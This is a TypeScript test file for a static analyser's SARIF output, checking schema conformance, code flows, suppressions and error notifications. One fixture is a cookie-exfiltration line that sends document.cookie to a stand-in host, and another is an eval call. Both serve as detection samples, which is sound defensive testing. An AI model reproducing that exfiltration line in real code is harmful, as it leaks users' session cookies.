import { z } from 'zod';
import { analyze } from '../analyze.ts';
import { RULES } from '../rules/registry.ts';
import { suppress } from './suppressions.ts';
import { toSarif } from './to-sarif.ts';

const region = z.strictObject({
  startLine: z.int().min(1),
  startColumn: z.int().min(1),
  endLine: z.int().min(1).optional(),
  endColumn: z.int().min(1).optional(),
  snippet: z.strictObject({ text: z.string() }).optional(),
});
const physicalLocation = z.strictObject({
  artifactLocation: z.strictObject({ uri: z.string().regex(/^[^\s\\]+$/) }),
  region,
});
/** The part of SARIF 2.1.0 that a run uses, with nothing the standard does not name. */
const log = z.strictObject({
  $schema: z.url(),
  version: z.literal('2.1.0'),
  runs: z.array(
    z.strictObject({
      tool: z.strictObject({
        driver: z.strictObject({
          name: z.string(),
          semanticVersion: z.string(),
          rules: z.array(
            z.looseObject({ id: z.string(), shortDescription: z.strictObject({ text: z.string() }) }),
          ),
        }),
      }),
      columnKind: z.enum(['utf16CodeUnits', 'unicodeCodePoints']),
      invocations: z.array(
        z.strictObject({
          executionSuccessful: z.boolean(),
          toolExecutionNotifications: z.array(
            z.strictObject({
              level: z.literal('error'),
              message: z.strictObject({ text: z.string().min(1) }),
              locations: z.array(z.strictObject({ physicalLocation: physicalLocation.partial() })),
            }),
          ),
        }),
      ),
      results: z.array(
        z.strictObject({
          ruleId: z.string(),
          ruleIndex: z.int().nonnegative(),
          level: z.enum(['none', 'note', 'warning', 'error']),
          message: z.strictObject({ text: z.string().min(1) }),
          locations: z.tuple([z.strictObject({ physicalLocation })]),
          partialFingerprints: z.record(z.string(), z.string()),
          codeFlows: z
            .array(
              z.strictObject({
                threadFlows: z.array(
                  z.strictObject({
                    locations: z.array(
                      z.strictObject({
                        location: z.strictObject({
                          physicalLocation,
                          message: z.strictObject({ text: z.string() }),
                        }),
                      }),
                    ),
                  }),
                ),
              }),
            )
            .optional(),
          suppressions: z
            .array(
              z.strictObject({
                kind: z.enum(['inSource', 'external']),
                status: z.literal('accepted'),
                justification: z.string(),
              }),
            )
            .optional(),
          properties: z.record(z.string(), z.string()),
        }),
      ),
    }),
  ),
});

describe('a run as SARIF', () => {
  it('has places, flows, fingerprints and suppressions in the form of the standard', async () => {
    const files = new Map([
      [
        'src/a b.js',
        'fetch("https://x.example", { body: document.cookie });\n// guildhall-ignore eval-code until 2027-01-01: known\neval(name);',
      ],
    ]);
    const { findings } = await analyze({ files });
    const judged = suppress(findings, { name: 'x', files, isOwn: true }, null, '2026-11-23');
    const read = log.parse(toSarif(judged.findings, RULES, { name: 'guildhall', version: '1.0.0' }));
    const [run] = read.runs;
    const stolen = run?.results.find(({ ruleId }) => ruleId === 'secret-to-network');
    expect(stolen).toMatchObject({
      level: 'error',
      locations: [
        { physicalLocation: { artifactLocation: { uri: 'src/a%20b.js' }, region: { startLine: 1 } } },
      ],
    });
    expect(stolen?.codeFlows?.[0]?.threadFlows[0]?.locations.length).toBeGreaterThan(1);
    expect(run?.results.find(({ ruleId }) => ruleId === 'eval-code')?.suppressions).toEqual([
      { kind: 'inSource', status: 'accepted', justification: 'known' },
    ]);
    for (const { ruleId, ruleIndex } of run?.results ?? [])
      expect(run?.tool.driver.rules[ruleIndex]?.id).toBe(ruleId);
  });

  it('has not succeeded when a file could not be analysed, and names it', () => {
    const tool = { name: 'guildhall', version: '1.0.0' };
    const invocationsOf = (errors: { file: string; message: string }[]) =>
      log.parse(toSarif([], [], tool, errors)).runs[0]?.invocations;
    expect(invocationsOf([{ file: 'a b.js', message: 'It is too large.' }])).toMatchObject([
      {
        executionSuccessful: false,
        toolExecutionNotifications: [
          { locations: [{ physicalLocation: { artifactLocation: { uri: 'a%20b.js' } } }] },
        ],
      },
    ]);
    expect(invocationsOf([])).toEqual([{ executionSuccessful: true, toolExecutionNotifications: [] }]);
  });
});
